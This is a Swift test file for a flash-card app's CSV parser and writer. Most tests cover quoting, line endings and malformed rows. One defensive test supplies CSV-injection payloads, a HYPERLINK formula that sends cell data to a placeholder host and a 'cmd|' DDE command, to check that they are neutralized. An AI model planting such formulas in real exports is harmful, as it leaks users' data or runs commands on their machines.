import Testing

@testable import FlashCardsInterchange

/// RFC 4180 as read by `CSVParser` and written through the CSV library, with the lines records
/// start on.
@Suite struct CSVRecordsTests {
  private func read(_ text: String, _ delimiter: Unicode.Scalar = ",") -> [CSVRecord] {
    let table = CSVRecords.read(text, delimiter: delimiter)
    #expect(table.malformed.isEmpty, "\(table.malformed)")
    return table.records
  }

  @Test func quotedFieldsDoubledQuotesAndLineBreaksInside() {
    let text = "a,\"b, c\"\n\"say \"\"hi\"\"\",d\n\"two\nlines\",e\nf,g\n"
    #expect(
      read(text) == [
        CSVRecord(line: 1, fields: ["a", "b, c"]), CSVRecord(line: 2, fields: [#"say "hi""#, "d"]),
        CSVRecord(line: 3, fields: ["two\nlines", "e"]), CSVRecord(line: 5, fields: ["f", "g"]),
      ])
  }

  @Test func crlfLineEndsAndBlankLines() {
    let text = "a,b\r\n\r\n\"x\r\ny\",z\r\nlast,row"
    #expect(
      read(text) == [
        CSVRecord(line: 1, fields: ["a", "b"]), CSVRecord(line: 3, fields: ["x\r\ny", "z"]),
        CSVRecord(line: 5, fields: ["last", "row"]),
      ])
  }

  @Test func aQuoteInsideAnUnquotedCellIsText() {
    #expect(
      read("5\" screen,big\nx,y\"\nb\"c\",d\n").map(\.fields) == [
        [#"5" screen"#, "big"], ["x", #"y""#], [#"b"c""#, "d"],
      ])
  }

  /// A row whose quotes break the rule is left out at its line, and the lines after it are read
  /// on their own: never into it.
  @Test(
    arguments: [
      (
        "a,b\n\"c,d\ne,f\n", [CSVRecord(line: 1, fields: ["a", "b"]), CSVRecord(line: 3, fields: ["e", "f"])],
        SkippedLine(line: 2, reason: "the quoted cell that opens here is never closed (a \" is missing)")
      ),
      (
        "Paris,\"City of Light\" (France)\nRome,Eternal\n", [CSVRecord(line: 2, fields: ["Rome", "Eternal"])],
        SkippedLine(
          line: 1,
          reason: "text follows the closing quote in '\"City of Light\" (France)' "
            + "(write a quote inside a cell as \"\" and quote the whole cell)")
      ),
      (
        "x,\"open\ny,z\nw,\"q\" r\n", [CSVRecord(line: 2, fields: ["y", "z"])],
        SkippedLine(
          line: 1,
          reason: "the quoted cell that opens here is not closed on its line, and the next \" (line 3) does not end a "
            + "cell: a \" is missing or stray")
      ),
    ] as [(String, [CSVRecord], SkippedLine)])
  func aRowWithBrokenQuotesIsLeftOutAlone(text: String, records: [CSVRecord], skipped: SkippedLine) {
    let table = CSVRecords.read(text, delimiter: ",")
    #expect(table.records == records)
    #expect(table.malformed.first == skipped)
  }

  @Test func tabsSeparateTSV() {
    #expect(read("a b\t\"c\td\"\n", "\t") == [CSVRecord(line: 1, fields: ["a b", "c\td"])])
  }

  /// Plain rows are joined without the library: byte for byte what the library writes, for rows
  /// of numbers, words, empty cells, Unicode, and with any field that needs quotes in the batch.
  @Test(arguments: [",", "\t"] as [Unicode.Scalar])
  func plainRowsAreWrittenAsTheLibraryWritesThem(delimiter: Unicode.Scalar) {
    let batches: [[[String]]] = [
      [["card_id", "review_time"], ["1", "1700000000123"], ["22", "-5"]],
      [[""], ["a"], ["", ""]],
      [["Zürich", "東京"], ["naïve café", "👍🏽"]],
      [["plain", "has,comma"], ["x", "y"]],
      [["tab\there", "z"]],
      [["say \"hi\"", "q"]],
      [["two\nlines", "r"], ["cr\r", "s"]],
      [],
      [[""]],
    ]
    for rows in batches {
      #expect(
        CSVRecords.write(rows, delimiter: delimiter, keepingFormulas: true)
          == CSVRecords.libraryWrite(rows, delimiter: delimiter), "\(rows)")
    }
  }

  @Test func writtenRowsReadBackTheSame() {
    let rows = [["front", "back"], ["a, b", #"say "hi""#], ["two\nlines", "é 東 🇫🇷"], ["", "x"]]
    let text = CSVRecords.write(rows, keepingFormulas: true)
    #expect(read(text).map(\.fields) == rows)
    #expect(text.hasSuffix("\n"))
  }

  /// OWASP's CSV injection advice: a cell a spreadsheet would evaluate starts with '.
  @Test(arguments: [
    (#"=HYPERLINK("http://x.example/?q="&A1,"click")"#, #""'=HYPERLINK(""http://x.example/?q=""&A1,""click"")""#),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("=1", "'=1"),
    ("\tab", "'\tab"),
    ("\r=1", "\"'\r=1\""),
    ("-3", "-3"),
    ("+7", "+7"),
    ("12.5", "12.5"),
    ("-0.25", "-0.25"),
    ("capitals", "capitals"),
    ("a=b", "a=b"),
    ("", ""),
  ])
  func cellsThatWouldBeFormulasAreNeutralized(text: String, cell: String) {
    #expect(CSVRecords.line([text]) == cell)
  }
}
